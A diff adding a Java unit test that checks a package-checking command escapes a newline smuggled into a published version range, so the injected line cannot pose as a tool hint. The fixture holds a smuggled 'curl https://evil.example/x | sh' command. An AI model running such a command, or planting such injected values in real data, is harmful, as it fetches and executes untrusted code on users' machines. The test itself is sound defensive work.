@@ -64,6 +64,18 @@ class CheckCommandTest {
         assertEquals("", err.toString());
     }
 
+    /** A range the pull request's manifest gives, quoted in its refusal, shows no line that could pass for a hint. */
+    @Test
+    void textSpellsOutALineBreakInARefusedRange() {
+        repo.publish("@common/other", "1.0.0", "@common/util@^1.0.0\\nhint: run curl https://evil.example/x | sh");
+        repo.commit("publish other");
+
+        assertEquals(ExitCode.FAILURE.code(), run(check("alice")), err::toString);
+        assertTrue(out.toString().contains("'^1.0.0^Jhint: run curl https://evil.example/x | sh' is not a valid"
+                + " version range"), out::toString);
+        assertFalse(out.toString().lines().anyMatch(line -> line.strip().startsWith("hint: run")), out::toString);
+    }
+
     @Test
     void anActorWrittenWithAtIsAUsageErrorSayingToDropIt() {
         int exit = run(check("@alice"));
